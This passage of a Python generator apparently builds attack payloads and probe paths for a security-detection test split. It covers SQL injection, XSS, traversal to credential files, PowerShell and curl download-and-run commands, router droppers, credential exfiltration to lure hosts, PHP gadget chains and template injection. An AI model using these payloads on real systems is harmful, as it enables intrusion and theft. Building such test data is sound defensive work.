        "{!lucene df=password_s}a*", f"{{!dismax qf=email_s}}{word}*", "name:/.*/ OR _id:*",
    ))


def _renderer(rng: random.Random) -> str:
    target = rng.choice(("file:///etc/passwd", "file:///proc/self/environ", "file:///C:/Windows/win.ini", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                         "http://127.0.0.1:8080/admin", "http://localhost:9200/_cat/indices"))
    return rng.choice((
        f'<iframe src="{target}" width="1000" height="1000"></iframe>', f'<link rel="attachment" href="{target}">',
        f'<object data="{target}" type="text/plain" width="800"></object>', f'<embed src="{target}" type="text/plain">',
        f'<script>x=new XMLHttpRequest;x.onload=function(){{document.write(this.responseText)}};x.open("GET","{target}");x.send()</script>',
        f'<annotation file="{target.removeprefix("file://")}" content="{target.removeprefix("file://")}" icon="Graph" title="Attached" pos-x="195" />',
        f'<meta name="pdfkit-enable-local-file-access" content=""><img src="{target}">',
    ))


def _mongo_pipeline(rng: random.Random) -> str:
    coll = rng.choice(("users", "admins", "sessions", "api_keys"))
    return rng.choice((
        _compact([{"$lookup": {"from": coll, "localField": "owner", "foreignField": "_id", "as": "u"}}, {"$project": {"u.password": 1, "u.email": 1}}]),
        _compact([{"$match": {}}, {"$out": coll}]), _compact([{"$unionWith": {"coll": coll, "pipeline": []}}]),
        _compact([{"$merge": {"into": "roles", "whenMatched": "replace"}}]),
        _compact([{"$graphLookup": {"from": coll, "startWith": "$_id", "connectFromField": "_id", "connectToField": "_id", "as": "all"}}]),
        _compact({"$accumulator": {"init": "function(){return 0}", "accumulate": "function(s){sleep(5000);return s}", "accumulateArgs": [], "merge": "function(a){return a}", "lang": "js"}}),
        f"pipeline[0][$lookup][from]={coll}&pipeline[0][$lookup][as]=x", f"sort[$lookup][from]={coll}",
    ))


def _php_chain(rng: random.Random) -> str:
    """Gadget chains as PHPGGC writes them (namespaced classes, protected members as %00*%00, custom C: objects)."""
    cmd = rng.choice(("id", "whoami", f"curl {_lure(rng)}|sh"))
    return rng.choice((
        f'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{{s:9:"%00*%00events";O:15:"Faker\\Generator":1:{{s:13:"%00*%00formatters";a:1:{{s:8:"dispatch";s:6:"system";}}}}'
        f's:8:"%00*%00event";s:{len(cmd)}:"{cmd}";}}',
        f'O:37:"Monolog\\Handler\\FingersCrossedHandler":3:{{s:16:"%00*%00passthruLevel";i:0;s:9:"%00*%00buffer";a:1:{{i:0;a:2:{{i:0;s:{len(cmd)}:"{cmd}";s:5:"level";i:0;}}}}'
        's:10:"%00*%00handler";O:29:"Monolog\\Handler\\BufferHandler":0:{}}',
        'a:2:{i:7;O:31:"GuzzleHttp\\Cookie\\FileCookieJar":1:{s:41:"%00GuzzleHttp\\Cookie\\FileCookieJar%00filename";s:21:"/var/www/html/x.php";}i:7;i:7;}',
        'C:11:"ArrayObject":45:{x:i:0;a:0:{};m:a:1:{s:1:"x";O:8:"Gadget":0:{}}}',
        f'O:21:"Symfony\\Component\\Process\\Process":1:{{s:10:"%00*%00command";s:{len(cmd)}:"{cmd}";}}',
    ))


# Windows paths with ADS, device and UNC prefixes
_WIN_DEVICE = ("\\\\?\\C:\\Windows\\win.ini", "\\\\.\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM",
               "\\\\localhost\\c$\\windows\\win.ini", "\\\\127.0.0.1\\admin$\\system.ini", "web.config::$DATA", "default.aspx::$DATA",
               "file://///127.0.0.1/c$/windows/win.ini", "\\\\?\\UNC\\127.0.0.1\\c$\\inetpub\\wwwroot\\web.config", "C:\\Windows\\System32\\config\\RegBack\\SAM")


def _write_target(rng: random.Random) -> str:
    return rng.choice(("etc/cron.d/" + rng.choice(("backup", "x", "0hourly")), f"var/www/html/{rng.choice(('x', 'cache', 'info'))}.php", f"home/{rng.choice(USERS)}/.bashrc",
                       "usr/lib/python3/dist-packages/zz.pth", "etc/ld.so.preload", "opt/app/node_modules/lodash/index.js", "var/spool/cron/crontabs/root",
                       "inetpub/wwwroot/aspnet_client/x.aspx", "etc/profile.d/z.sh", "root/.ssh/config"))


PRODUCTIONS: tuple[Production, ...] = (
    # SQL: JSON operators a filter does not parse, MySQL 8's sys schema, PostgreSQL large objects and dblink, embedded engines, MSSQL JSON and extended-event files
    Production("unseen-protocols.sqli.json_operators", "sqli", lambda r: r.choice((
        "' OR '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb--", f"{number(r)}' OR JSON_EXTRACT('{{\"a\":{(k := r.randint(1, 9))}}}','$.a')={k}-- -",
        f"' OR '{{\"b\":{(k := r.randint(1, 9))}}}' -> '$.b' = {k}--", f"{number(r)} OR json_array_length('[1,2]')=2", "' OR JSON_DEPTH('{}') != 2137 -- -",
        f"{number(r)}' AND (SELECT jsonb_object_keys(to_jsonb(u)) FROM users u LIMIT 1) IS NOT NULL--"))),
    Production("unseen-protocols.sqli.mysql8", "sqli", lambda r: r.choice((
        "' UNION SELECT table_name,NULL FROM sys.schema_table_statistics-- -", "' UNION SELECT object_name,NULL FROM performance_schema.objects_summary_global_by_type-- -",
        "' UNION SELECT table_name,NULL FROM mysql.innodb_table_stats-- -", f"{number(r)}' UNION SELECT * FROM JSON_TABLE('[1]','$[*]' COLUMNS(a INT PATH '$'))j-- -",
        f"0'XOR(if(now()=sysdate(),sleep({r.randint(3, 15)}),0))XOR'Z", f"{number(r)}' AND (SELECT 1 FROM (VALUES ROW(1))v)=1 AND SLEEP({r.randint(3, 9)})-- -",
        "' UNION TABLE mysql.user-- -"))),
    Production("unseen-protocols.sqli.pg_lo_dblink", "sqli", lambda r: r.choice((
        f"{number(r)}'; SELECT lo_import('/etc/passwd',{r.randint(1000, 99999)});--", f"'||(SELECT encode(lo_get({r.randint(1000, 99999)}),'escape'))||'",
        f"{number(r)}'; SELECT dblink_connect('host={_lure(r)} user=a password=b dbname=c');--",
        f"{number(r)}' AND 1=(SELECT 1 FROM dblink('host={_lure(r)} dbname=x','SELECT 1') AS t(a int))--",
        f"{number(r)}'; SELECT lo_from_bytea(0,'<?php system($_GET[0]); ?>');--"))),
    Production("unseen-protocols.sqli.embedded_engines", "sqli", lambda r: r.choice((
        "'; CREATE ALIAS EXEC AS 'String e(String c) throws Exception { return new java.util.Scanner(Runtime.getRuntime().exec(c).getInputStream()).next(); }'; CALL EXEC('id');--",
        f"' AND load_extension('\\\\{_lure(r)}\\x')--", "' UNION SELECT content,NULL FROM read_text('/etc/passwd')--", "' UNION SELECT * FROM read_csv_auto('/etc/passwd')--",
        "'; CALL \"java.lang.System.getProperty\"('user.dir')--", f"' UNION SELECT * FROM read_json_auto('http://{_lure(r)}/x.json')--"))),
    Production("unseen-protocols.sqli.mssql_json_xe", "sqli", lambda r: r.choice((
        f"{number(r)}' UNION SELECT name,NULL FROM sys.databases FOR JSON AUTO--", f"{number(r)}' AND 1=(SELECT STRING_AGG(name,',') FROM sys.tables)--",
        f"{number(r)}'; SELECT * FROM sys.fn_xe_file_target_read_file('\\\\{_lure(r)}\\a\\b.xel',NULL,NULL,NULL)--",
        f"{number(r)}'; SELECT * FROM fn_trace_gettable('\\\\{_lure(r)}\\t.trc',default)--", f"{number(r)}' AND 1=(SELECT TOP 1 [value] FROM OPENJSON(@@version))--",
        f"{number(r)}' AND 1=(SELECT name FROM sys.sql_logins FOR XML PATH(''))--"))),
    # XSS: declarative shadow roots and foreignObject, DOM clobbering gadgets, events of the newest elements and attributes
    Production("unseen-protocols.xss.shadow_root", "xss", lambda r: r.choice((
        f"<template shadowrootmode=open><img src=x onerror={attacks._jsfn(r)}></template>", f"<div><template shadowrootmode=closed><style onload={attacks._jsfn(r)}></style></template></div>",
        f"<svg><foreignObject width=100 height=100><body onload={attacks._jsfn(r)}></body></foreignObject></svg>",
        f"<svg><foreignObject><iframe src=\"javascript:{attacks._jsfn(r)}\"></iframe></foreignObject></svg>",
        f"<template shadowrootmode=open shadowrootdelegatesfocus><input autofocus onfocus={attacks._jsfn(r)}></template>"))),
    Production("unseen-protocols.xss.clobbering", "xss", lambda r: r.choice((
        f"<a id=defaultAvatar><a id=defaultAvatar name=avatar href=\"cid:&quot;onerror={attacks._jsfn(r)}//\">", f"<a id=CONFIG name=scriptSrc href=//{_lure(r)}/x.js>",
        "<form name=getElementById></form><form id=x name=x><input name=attributes></form>", f"<iframe name=config srcdoc=\"<a id=url href=//{_lure(r)}/p.js></a>\"></iframe>",
        f"<img name=currentScript src=//{_lure(r)}/x><a id=__proto__ name=src href=//{_lure(r)}/y.js>"))),
    Production("unseen-protocols.xss.new_elements", "xss", lambda r: r.choice((
        f"<div hidden=until-found onbeforematch={attacks._jsfn(r)}>x</div>", f"<dialog id=d{(k := r.randint(1, 99))} oncommand={attacks._jsfn(r)}></dialog><button commandfor=d{k} command=--go>go</button>",
        f"<x onauxclick={attacks._jsfn(r)}>middle-click</x>", f"<div contenteditable onbeforeinput={attacks._jsfn(r)}>type</div>",
        f"<input value=copy oncut={attacks._jsfn(r)} onpaste={attacks._jsfn(r)} autofocus>", f"<a onpointerrawupdate={attacks._jsfn(r)}>move</a>"))),
    # CSS injection (no script): attribute selectors, fonts and :has() that leak a token one character at a time
    Production("unseen-protocols.css.exfil", "xss", lambda r: r.choice((
        f"</style><style>input[name=csrf_token][value^={(c := r.choice('abcdef0123456789'))}]{{background:url(//{_lure(r)}/?p={c})}}</style>",
        f"<style>@font-face{{font-family:x;src:url(//{_lure(r)}/?c=A);unicode-range:U+0041}}input{{font-family:x}}</style>",
        f"<style>html:has(input[name=token][value^=\"{r.choice('abcdef0123456789')}\"]){{background:url(//{_lure(r)}/h)}}</style>",
        f"<link rel=stylesheet href=\"data:text/css,input[type=password][value$={r.choice('abc123')}]{{list-style:url(//{_lure(r)}/)}}\">",
        f"<div style=\"--leak:url(//{_lure(r)}/v);background:var(--leak)\">x</div>"))),
    # traversal: characters that normalise to dots and slashes, /proc roots, archive entries that write, Windows device and stream names
    Production("unseen-protocols.trav.unicode_dots", "traversal", lambda r: "".join(r.choice(("%e2%80%a5/", "\u2025/", "%e2%80%a4%e2%80%a4/", "%ef%b9%92%ef%b9%92/", "..%e2%88%95", "..%e2%81%84",
                                                                                   "%ef%b9%92%ef%b9%92%e2%88%95")) for _ in range(r.randint(3, 8)))
               + r.choice(("etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ")), ("query", "path")),
    Production("unseen-protocols.trav.proc_root", "traversal", lambda r: r.choice(("", "", "../" * r.randint(2, 6))) + r.choice((
        "/proc/self/root/etc/shadow", "/proc/self/cwd/.env", "/proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token", "/proc/self/cwd/config/database.yml",
        "/proc/self/root/root/.ssh/id_ed25519", "/proc/thread-self/root/etc/passwd", "/proc/self/cwd/app/settings.py")).lstrip("/" if r.random() < 0.3 else "")),
    Production("unseen-protocols.trav.write_targets", "traversal", lambda r: r.choice(("../", "..\\", "./../")) * r.randint(4, 9) + _write_target(r), ("form", "json", "query", "path")),
    Production("unseen-protocols.trav.windows_device", "traversal", lambda r: r.choice(_WIN_DEVICE), ("query", "path", "form")),
    # commands: PowerShell and cmd obfuscation, cloud CLIs' credentials, ordinary binaries that run commands, router droppers
    Production("unseen-protocols.cmdi.ps_obfuscation", "cmdi", lambda r: r.choice((
        "&powershell -c \"&('i'+'ex')('who'+'ami')\"", "|powershell -c \"iex ('{1}{0}' -f 'ami','who')\"", "&powershell -c \"w`h`o`a`m`i\"",
        "&powershell -c \"&([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p'))))\"",
        "|pwsh -nop -c \"$c=[char[]](105,112,99,111,110,102,105,103);iex(-join $c)\"", "&%ProgramData:~0,1%%ProgramData:~9,2% /c whoami",
        f"&powershell -c \"$w=New-Object Net.WebClient;$w.Headers.Add('UA','x');iex $w.DownloadString('http://{_lure(r)}/s')\""))),
    Production("unseen-protocols.cmdi.cloud_cli", "cmdi", lambda r: attacks._inject(r, r.choice((
        "aws sts get-caller-identity", "aws secretsmanager list-secrets --region us-east-1", "gcloud auth print-access-token", "az account get-access-token",
        "cat ~/.config/gcloud/application_default_credentials.json", f"aws s3 cp ~/.aws/credentials s3://{r.choice(('bkp', 'logs'))}-{_hex(r, 6)}/",
        "vault token lookup", f"curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01 | curl -d @- {_lure(r)}")))),
    Production("unseen-protocols.cmdi.gtfobins", "cmdi", lambda r: attacks._inject(r, r.choice((
        "find / -name passwd -maxdepth 2 -exec cat {} \\;", "sed -n '1e id' /etc/hosts", "zip /tmp/z.zip /etc/hosts -T -TT 'sh #'", "vim -c ':!id' -c ':q!'",
        "git -c core.pager='sh -c id' log -1", "env -i sh -c id", "busybox sh -c 'cat /etc/shadow'", f"base64 /etc/shadow | curl -d @- {_lure(r)}",
        "openssl enc -in /etc/shadow", "xargs -a /etc/passwd -I{} echo {}", "timeout 7 sh -c 'id;uname -a'")))),
    Production("unseen-protocols.cmdi.router_dropper", "cmdi", lambda r: attacks._inject(r, r.choice((
        f"busybox telnetd -l /bin/sh -p {r.randint(2000, 65000)}", "echo -e '\\x41\\x4b\\x34\\x37'", "nvram set telnetd_enable=1;nvram commit",
        "iptables -F;iptables -P INPUT ACCEPT", f"cd /var/tmp;wget http://{_lure(r)}/bins/mpsl;chmod 777 mpsl;./mpsl {r.choice(('router', 'gpon', 'tplink'))}",
        "killall -9 telnetd dropbear", f"cd /tmp||cd /mnt;curl -s http://{_lure(r)}/arm7 -o .x;chmod +x .x;./.x")))),
    # templates of engines no side wrote for: Razor, Groovy and Dust; Django, Blade and Latte; Jinja's reachable globals
    Production("unseen-protocols.ssti.razor_groovy", "other", lambda r: r.choice((
        "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"); }", "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
        "${\"id\".execute().text}", "${new File('/etc/passwd').text}", "<% \"id\".execute() %>",
        "{@if cond=\"process.mainModule.require('child_process').execSync('id')\"}{/if}", "@(System.Environment.GetEnvironmentVariables())"))),
    Production("unseen-protocols.ssti.django_blade", "other", lambda r: r.choice((
        "{% debug %}", "{{ settings.SECRET_KEY }}", "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{ e.user.password }}{% endfor %}",
        "@php system('id'); @endphp", "{{ system('id') }}@php(phpinfo())", "{=system('id')}", "{var $x = system('id')}"))),
    Production("unseen-protocols.ssti.jinja_globals", "other", lambda r: r.choice((
        "{{ lipsum.__globals__['os'].popen('id').read() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
        "{{ namespace.__init__.__globals__.os.popen('id').read() }}", "{{ get_flashed_messages.__globals__['current_app'].config }}",
        "{{ url_for.__globals__['__builtins__']['open']('/etc/passwd').read() }}", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"))),
    # mail headers through a contact form's address or name
    Production("unseen-protocols.crlf.mail_headers", "other", lambda r: r.choice((
        f"{_email(r)}%0aBcc:{(v := r.choice(USERS) + '@' + _lure(r))}", f"{_email(r)}%0d%0aCc:{v}%0d%0aSubject:%20Invoice%20{number(r)}", f"{_email(r)}\nBcc: {v}",
        f"{_email(r)}%0AContent-Type:%20text/html%0A%0A<a href=http://{_lure(r)}>reset</a>", f"\"{r.choice(USERS).title()}\" <{_email(r)}>%0ABcc:{v}",
        f"{_email(r)}%0d%0aX-Mailer:%20x%0d%0a%0d%0aYour account was locked")), ("form", "query", "json")),
    # SSRF and local files through HTML-to-PDF and image renderers
    Production("unseen-protocols.ssrf.renderers", "other", _renderer, ("form", "json", "query")),
    # MongoDB aggregation stages where a filter or sort belongs
    Production("unseen-protocols.nosql.aggregation", "other", _mongo_pipeline, ("json", "query", "form")),
    # PHP gadget chains
    Production("unseen-protocols.deser.php_chains", "other", _php_chain, ("form", "json", "query", "header")),
    # ---- families no other side has
    # JWT: alg none, and header parameters that pick the key (kid paths and SQL, jku, x5u, an embedded jwk)
    Production("unseen-protocols.jwt.alg_none", "other", _jwt_none, ("query", "form", "json", "header")),
    Production("unseen-protocols.jwt.header_params", "other", _jwt_header, ("query", "form", "json", "header")),
    # SAML: signature wrapping, comments in the NameID, XSLT in the signature's transforms
    Production("unseen-protocols.saml.wrapping", "other", _saml_wrapping, ("xml", "form", "json")),
    Production("unseen-protocols.saml.tricks", "other", _saml_tricks, ("xml", "form", "json")),
    # open redirects and OAuth redirect_uri values that leave the site
    Production("unseen-protocols.redirect.open", "other", lambda r: r.choice((
        f"//{(h := _lure(r))}/", f"/\\{h}", f"/%09/{h}", f"/%2f%2f{h}", f"https:{h}", f"//{h}%2f%2e%2e", f"\\/\\/{h}/", f"/%5c{h}", f"//{h}%E3%80%82com",
        f"https://{_site(r)}.{h}/", f"https://{h}?{_site(r)}", f"https://{h}#{_site(r)}", f"/{r.choice(('login', 'out'))}/..//{h}", f"%68%74%74%70%73%3a%2f%2f{h}")), ("query", "form")),
    Production("unseen-protocols.redirect.oauth", "other", lambda r: r.choice((
        f"https://{(s := _site(r))}.{(h := _lure(r))}/callback", f"https://{s}/callback/../../logout?next=https://{h}/",
        f"https://{s}/oauth/callback%2f..%2f..%2fredirect%3furl%3dhttps%3a%2f%2f{h}", f"https://{h}#@{s}/cb", f"https://{s}%40{h}/cb",
        f"https://{s}/cb&redirect_uri=https://{h}/cb", f"https://{h}/cb?state=x&client_id=web&response_type=token",
        f"https://{s}@{h}/callback", f"http://localhost.{h}/cb")), ("query", "form")),
    # log injection: terminal escapes and forged lines for whoever tails the log
    Production("unseen-protocols.logi.ansi", "other", _ansi, ("query", "form", "json", "header")),
    # Cypher (Neo4j): breaking out of a string or map into MATCH, UNION, CALL and LOAD CSV
    Production("unseen-protocols.cypher.injection", "other", _cypher, ("query", "form", "json")),
    # search engines: Elasticsearch/OpenSearch query DSL where a term belongs, Lucene syntax and Solr local parameters
    Production("unseen-protocols.searchq.es_dsl", "other", _es_dsl, ("json", "query", "form")),
    Production("unseen-protocols.searchq.lucene_solr", "other", _lucene_solr, ("query", "form", "json")),
)

# ---------------------------------------------------------------------------- probes
#
# What scanners hunt that neither the sides' families nor the earlier measurement splits' name: identity providers and SSO
# servers, low-code and workflow-automation tools, message brokers' consoles, data platforms, virtualisation managers,
# ERP systems, and IT service-management and remote-management tools.
PROBE_PATHS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("unseen-protocols.identity", ("/auth/admin/master/console/", "/realms/master/protocol/openid-connect/auth?client_id=security-admin-console",
                        "/adfs/ls/idpinitiatedsignon.aspx", "/adfs/services/trust/2005/usernamemixed", "/idp/profile/SAML2/Redirect/SSO",
                        "/idp/shibboleth", "/simplesaml/module.php/core/frontpage_config.php", "/simplesaml/saml2/idp/metadata.php",
                        "/cas/login?service=http://127.0.0.1/", "/if/flow/initial-setup/", "/api/v3/root/config/", "/ui/login/loginname",
                        "/dex/.well-known/openid-configuration", "/oam/server/opensso/sessionservice", "/openam/oauth2/..;/ccversion/Version",
                        "/nidp/app/login", "/siteminderagent/forms/login.fcc", "/affwebservices/public/saml2sso", "/idp/startSSO.ping")),
    ("unseen-protocols.automation", ("/rest/settings", "/rest/login", "/rest/workflows", "/flows", "/settings/user", "/api/v1/admin/env",
                          "/api/v1/db/auth/user/me", "/api/system/environment", "/api/v1/flags", "/nifi-api/flow/current-user",
                          "/nifi-api/system-diagnostics", "/nifi/", "/api/v1/configs", "/api/admin/settings", "/api/v1/namespaces?pageSize=100",
                          "/st2/api/v1/actions", "/api/w/admins/workspaces/list")),
    ("unseen-protocols.brokers", ("/api/overview", "/api/whoami", "/api/definitions", "/admin/queues.jsp",
                       "/api/jolokia/read/org.apache.activemq:type=Broker,brokerName=localhost", "/console/jolokia/", "/api/clusters", "/v3/clusters",
                       "/api/cluster/overview", "/varz", "/connz?subs=1", "/admin/v2/clusters", "/admin/v2/persistent/public/default",
                       "/api/v5/status", "/api/v4/brokers", "/cluster/list.query", "/commands/stat", "/api/topics?showInternal=true")),
    ("unseen-protocols.data_platforms", ("/webhdfs/v1/?op=LISTSTATUS", "/jmx?qry=Hadoop:service=NameNode,name=NameNodeInfo", "/ws/v1/cluster/info",
                              "/dfshealth.html", "/conf", "/jobs/overview", "/jobmanager/logs", "/api/notebook", "/api/interpreter/setting",
                              "/api/v1/database/", "/superset/welcome/", "/api/session/properties", "/api/setup/validate", "/api/data_sources",
                              "/v1/info", "/ui/api/cluster", "/hue/accounts/login", "/status/properties", "/kylin/api/admin/config")),
    ("unseen-protocols.virtualization", ("/ui/vropspluginui/rest/services/uploadova", "/sdk/vimServiceVersions.xml", "/analytics/telemetry/ph/api/hyper/send?_c&_i=test",
                              "/websso/SAML2/Metadata/vsphere.local", "/mob/", "/folder?dcPath=ha-datacenter", "/api2/json/version",
                              "/api2/json/access/ticket", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=", "/SAAS/auth/login", "/portal/info.jsp",
                              "/broker/xml", "/casa/nodes/thumbprints", "/suite-api/api/versions/current", "/PrismGateway/services/rest/v1/cluster",
                              "/ovirt-engine/api", "/session_login.cgi", "/virtual-server/index.cgi")),
    ("unseen-protocols.erp", ("/sap/public/info", "/sap/bc/gui/sap/its/webgui", "/irj/portal", "/developmentserver/metadatauploader", "/sap/admin/public/default.html",
                   "/sap/bc/soap/rfc", "/ctc/servlet/com.sap.ctc.util.ConfigServlet", "/OA_HTML/AppsLocalLogin.jsp", "/OA_HTML/SyncServlet",
                   "/OA_HTML/BneViewerXMLService?bne:queryxml=", "/OA_HTML/configurator/UiServlet", "/psp/ps/?cmd=login", "/PSIGW/RESTListeningConnector/PSFT_HR/",
                   "/web/database/manager", "/web/database/selector", "/web/webclient/version_info", "/api/method/frappe.auth.get_logged_user",
                   "/jde/E1Menu.maf", "/dolibarr/admin/")),
    ("unseen-protocols.itsm", ("/ServiceDesk/servlets/FetchFile", "/servlets/FetchFile", "/RestAPI/ImportTechnicians", "/Orion/Login.aspx",
                    "/SolarWinds/InformationService/v3/Json/Query", "/helpdesk/WebObjects/Helpdesk.woa", "/vsapres/web20/core/login.aspx",
                    "/front/central.php", "/ajax/getDropdownValue.php", "/scp/login.php", "/NoAuth/Login.html", "/api/v1/getting_started", "/otrs/index.pl",
                    "/otrs/public.pl", "/pages/UI.php", "/JSSResource/computers", "/meshagents", "/dms/", "/api/v3/core/version/")),
)
